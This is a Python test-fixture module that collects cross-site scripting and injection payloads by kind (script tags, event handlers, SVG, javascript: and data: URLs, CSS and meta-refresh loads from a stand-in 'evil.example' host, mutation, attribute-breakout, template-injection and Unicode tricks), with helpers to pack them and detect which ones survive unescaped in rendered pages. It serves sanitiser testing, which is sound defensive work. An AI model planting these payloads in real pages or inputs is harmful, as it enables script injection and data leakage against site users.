"""Texts of our own writing that would run, ask or deceive wherever a page takes them for more than words."""

from collections.abc import Iterable, Iterator, Mapping, Sequence

REMOTE = "https://evil.example"
BARE = '<!DOCTYPE html><meta charset="utf-8"><title>x</title><body>{0}<p title="{0}"></p><a href="{0}">x</a>'
"""A page that escapes nothing."""

KINDS: Mapping[str, Sequence[str]] = {
    "script": (
        "<script>alert(1)</script>",
        "<ScRiPt>alert(1)</sCrIpT >",
        f"<script src={REMOTE}/a.js></script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "</textarea></title></style></template><script>alert(1)</script>",
        "<script\x0c>alert(1)</script\x0c>",
    ),
    "event": (
        "<img src=x onerror=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
        "<p tabindex=0 onmouseover=alert(1) onclick=alert(1) style=animation-name:x onanimationstart=alert(1)>x</p>",
        "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)>x</b>",
    ),
    "drawing": (
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        '<svg><animate onbegin=alert(1) attributeName=x dur=1s /><a href="javascript:alert(1)"><text>x</text></a></svg>',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    ),
    "address": (
        "javascript:alert(1)",
        "java\tscript:alert(1)",
        "\x01javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        f"//{REMOTE.partition('//')[2]}/x",
        '<a href="javascript:alert(1)">x</a><form action="javascript:alert(1)"><button formaction="javascript:alert(1)">',
    ),
    "style": (
        f"<style>body{{background:url({REMOTE}/s)}}</style>",
        f"<p style=\"background-image:url('{REMOTE}/s')\">x</p>",
        f"<link rel=stylesheet href={REMOTE}/s.css>",
        f"x;}}body{{background:url({REMOTE}/s)}}",
    ),
    "document": (
        f'<meta http-equiv="refresh" content="0;url={REMOTE}/r">',
        f'<base href="{REMOTE}/">',
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        f'<iframe src="{REMOTE}/f"></iframe><object data="{REMOTE}/o"></object><embed src="{REMOTE}/e">',
        f"<link rel=prefetch href={REMOTE}/p><link rel=preload as=image href={REMOTE}/l><link rel=dns-prefetch href={REMOTE}>",
    ),
    "mutation": (
        "<template><script>alert(1)</script></template>",
        "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        '<xmp><p title="</xmp><svg/onload=alert(1)>">',
    ),
    "unclosed": (
        "<!-- <img src=x onerror=alert(1)> --!><img src=x onerror=alert(1)>",
        f"<img src='{REMOTE}/all-that-follows?",
        "<plaintext>",
        "]]><img src=x onerror=alert(1)><![CDATA[",
    ),
    "attribute": (
        '" onmouseover=alert(1) autofocus onfocus=alert(1) x="',
        "' onmouseover=alert(1) autofocus onfocus=alert(1) x='",
        '"><img src=x onerror=alert(1)>',
        "'><img src=x onerror=alert(1)>",
        "x onerror=alert(1)",
    ),
    "entity": ("&lt;img src=x onerror=alert(1)&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;"),
    "markdown": (
        "[x](javascript:alert(1))",
        "[x](java&#115;cript:alert(1)) [y](<javascript:alert(1)>) [z](data:text/html,<script>alert(1)</script>)",
        f"![x]({REMOTE}/m.png) [![x]({REMOTE}/n.png)](javascript:alert(1))",
        "[x]: javascript:alert(1)\n\n[x] <javascript:alert(1)>",
        "**<img src=x onerror=alert(1)>** `<script>alert(1)</script>`\n\n<div onclick=alert(1)>\n\n- <svg onload=alert(1)>",
        '[x](https://example.org/"onmouseover="alert(1))',
    ),
    "template": ("{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %> {{ self.__init__.__globals__ }}",),
    "sign": (
        "\u202e<b onclick=alert(1)>\u2066abc\u200b\u200f\u061c",
        "A\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
        "\ufeff\u00ad\u2028<img src=x onerror=alert(1)>\u2029",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "Z" + "\u0300\u0301\u0302" * 40,
        "w" * 600,
        "https://example.org/" + "a" * 600,
    ),
}
TEXTS: tuple[str, ...] = tuple(text for kind in KINDS.values() for text in kind)


def packed(texts: Sequence[str], longest: int) -> Iterator[str]:
    """As few texts as hold all of these, none of more than so many characters; what is too long alone is cut."""
    held = ""
    for text in texts:
        if held and len(held) + 1 + len(text) > longest:
            yield held
            held = ""
        held = f"{held} {text}"[:longest] if held else text[:longest]
    if held:
        yield held


def unseen(texts: Iterable[str], pages: Iterable[str]) -> list[str]:
    """The texts that these pages do not say: to readers, but for what HTML cannot hold."""
    said = plain(" ".join(pages))
    return [text for text in texts if plain(text) not in said]


def plain(text: str) -> str:
    return "".join(sign for sign in text if sign.isprintable() and sign not in " \ufffd")
